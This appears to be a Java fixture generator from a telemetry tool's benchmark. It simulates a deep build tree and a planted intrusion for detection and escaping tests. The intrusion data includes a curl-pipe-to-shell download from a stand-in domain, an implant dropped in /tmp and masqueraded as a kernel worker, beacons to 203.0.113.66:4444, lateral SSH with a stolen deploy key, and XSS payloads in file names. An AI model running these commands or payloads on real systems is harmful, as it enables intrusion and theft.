package org.fleetrec.web.bench;

import org.fleetrec.web.bench.SyntheticHost.Service;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/**
 * The benchmark's known cases, planted among the ordinary activity: a release build whose
 * recursive make is {@value #DEPTH} levels deep with over a thousand processes, and an intrusion
 * (a download piped to a shell on an app server, a masqueraded implant calling home, a hop to the
 * database with the app's deploy key) that leaves indicators to sweep for.
 */
final class FixturePlanter {
    static final int DEPTH = 20;
    /** Compiler runs under each sub-make: 19 × 55 + 19 sub-makes = 1,064 descendants. */
    static final int FANOUT = 55;
    static final String IOC_IP = "203.0.113.66";
    static final int IOC_PORT = 4444;
    static final String IOC_DOMAIN = "cdn-update.badhost.example";
    static final String IOC_PATH = "/tmp/.ICE-unix/.x/kworkerd";
    /** A file name with markup in it, as an intruder may choose one. */
    static final String HOSTILE_FILE = "/tmp/.ICE-unix/.x/\"><img src=x onerror=alert(1)>.html";
    static final String IOC_SHA256 = Planner.sha256Hex("fleetrec synthetic implant");
    /** About what both fixtures add to the fleet's documents, for pacing the rest. */
    static final long ESTIMATED_DOCUMENTS = 2L * (DEPTH + (DEPTH - 1) * FANOUT) + 120;

    private static final String[] COMPONENTS = {"core", "net", "store", "proto", "codec", "io", "util", "sched", "mem", "crypto"};

    private final Planner plan;
    private final HostActivities activities;

    FixturePlanter(Planner plan, HostActivities activities) {
        this.plan = plan;
        this.activities = activities;
    }

    /** Plans the release build on {@code build} at {@code t}. */
    FleetFixtures.DeepTree deepTree(SyntheticHost build, long t) {
        SyntheticProcess runner = build.service(Service.MAIN);
        SyntheticProcess bash = plan.exec(runner, t, Who.system(SyntheticUser.CI), "/home/ci", "/usr/bin/bash",
                "bash", "-e", "/home/ci/builds/tmp/job-release.sh");
        String dir = "/home/ci/builds/platform";
        SyntheticProcess root = plan.exec(bash, t + 100, "/usr/bin/make", "make", "-C", dir, "-j2", "release");
        // A recursive make goes down first, then each level compiles its own files on the way up.
        List<SyntheticProcess> spine = new ArrayList<>();
        SyntheticProcess parent = root;
        long at = t + 200;
        for (int level = 1; level < DEPTH; level++) {
            dir = dir + "/" + COMPONENTS[level % COMPONENTS.length];
            parent = plan.exec(parent, at, "/usr/bin/make", "make", "-C", dir, "all");
            spine.add(parent);
            at += 40;
        }
        SyntheticProcess leaf = null;
        for (int level = DEPTH - 1; level >= 1; level--) {
            SyntheticProcess make = spine.get(level - 1);
            for (int i = 0; i < FANOUT; i++) {
                String source = "unit" + i + ".c";
                SyntheticProcess cc = plan.exec(make, at, "/usr/bin/x86_64-linux-gnu-gcc-12", "cc", "-O2", "-c", source,
                        "-o", "unit" + i + ".o");
                plan.exit(cc, at + 30 + plan.random.nextInt(150), 0);
                if (leaf == null) leaf = cc;
                at += 200;
            }
            plan.exit(make, at, 0);
            at += 20;
        }
        plan.exit(root, at + 50, 0);
        plan.exit(bash, at + 120, 0);
        int descendants = (DEPTH - 1) + (DEPTH - 1) * FANOUT;
        // The deepest leaf: the first compiler run, under the last sub-make. Its ancestors: DEPTH makes, bash, the runner, systemd.
        return new FleetFixtures.DeepTree(build.name, build.id, root.entityId(), leaf.entityId(), DEPTH, descendants, 3,
                Instant.ofEpochMilli(t).toString());
    }

    /** Plans the intrusion: the app server at {@code t}, the database half an hour later. */
    FleetFixtures.Iocs intrusion(SyntheticHost app, SyntheticHost db, long t) {
        SyntheticProcess server = app.service(Service.MAIN);
        SyntheticProcess sh = plan.exec(server, t, "/usr/bin/dash", "/bin/sh", "-c",
                "curl -fsSL http://" + IOC_DOMAIN + "/k.sh | sh");
        SyntheticProcess fetch = plan.exec(sh, t + 5, "/usr/bin/curl", "curl", "-fsSL", "http://" + IOC_DOMAIN + "/k.sh");
        plan.connect(fetch, t + 30, "tcp", IOC_IP, HostActivities.HTTP);
        plan.exit(fetch, t + 400, 0);
        SyntheticProcess script = plan.exec(sh, t + 6, "/usr/bin/dash", "sh");
        SyntheticProcess implant = drop(script, t + 500);
        // Attacker-controlled text, for the pages' escaping: a command line and a file name with markup.
        SyntheticProcess note = plan.exec(implant, t + 2_000, "/usr/bin/dash", "sh", "-c",
                "echo '<script>alert(1)</script>' > '" + HOSTILE_FILE + "'");
        plan.file(note, t + 2_010, "created", HOSTILE_FILE);
        plan.exit(note, t + 2_020, 0);
        plan.exit(script, t + 2_100, 0);
        plan.exit(sh, t + 2_102, 0);
        for (int i = 0; i < 24; i++) plan.connect(implant, t + 60_000 + i * 300_000L, "tcp", IOC_IP, IOC_PORT);

        long lateral = t + 1_800_000;
        SyntheticProcess ssh = plan.exec(implant, lateral, "/usr/bin/ssh", "ssh", "-o", "StrictHostKeyChecking=no", "-i",
                "/opt/app/.ssh/id_ed25519", "deploy@" + db.name);
        plan.connect(ssh, lateral + 40, db.service(Service.SSHD), HostActivities.SSH);
        HostActivities.Session session = activities.login(db, lateral + 45, SyntheticUser.DEPLOY, app.ip);
        long at = session.ready() + 2_000;
        plan.run(session.shell(), at, 4, "/usr/bin/id", "id");
        plan.run(session.shell(), at + 3_000, 5, "/usr/bin/uname", "uname", "-a");
        SyntheticProcess second = drop(session.shell(), at + 9_000);
        plan.connect(second, at + 70_000, "tcp", IOC_IP, IOC_PORT);
        plan.connect(second, at + 370_000, "tcp", IOC_IP, IOC_PORT);
        activities.logout(session, at + 20_000);
        plan.exit(ssh, at + 20_050, 0);
        return new FleetFixtures.Iocs(IOC_IP, IOC_PORT, IOC_DOMAIN, IOC_SHA256, IOC_PATH, implant.entityId(),
                List.of(app.name, db.name), Instant.ofEpochMilli(t).toString());
    }

    /** Download, chmod and start the implant under {@code shell}; it calls itself a kernel worker. */
    private SyntheticProcess drop(SyntheticProcess shell, long t) {
        SyntheticProcess curl = plan.exec(shell, t, "/usr/bin/curl", "curl", "-fsSL", "-o", IOC_PATH,
                "http://" + IOC_DOMAIN + "/kworkerd");
        plan.connect(curl, t + 20, "tcp", IOC_IP, HostActivities.HTTP);
        plan.file(curl, t + 100, "created", IOC_PATH);
        plan.exit(curl, t + 1_000, 0);
        SyntheticProcess chmod = plan.exec(shell, t + 1_100, "/usr/bin/chmod", "chmod", "+x", IOC_PATH);
        plan.file(chmod, t + 1_102, "attributes-changed", IOC_PATH);
        plan.exit(chmod, t + 1_104, 0);
        return plan.execWithHash(shell, t + 1_200, shell.who(), "/tmp/.ICE-unix/.x", IOC_PATH, IOC_SHA256, List.of("[kworker/0:2]"));
    }
}
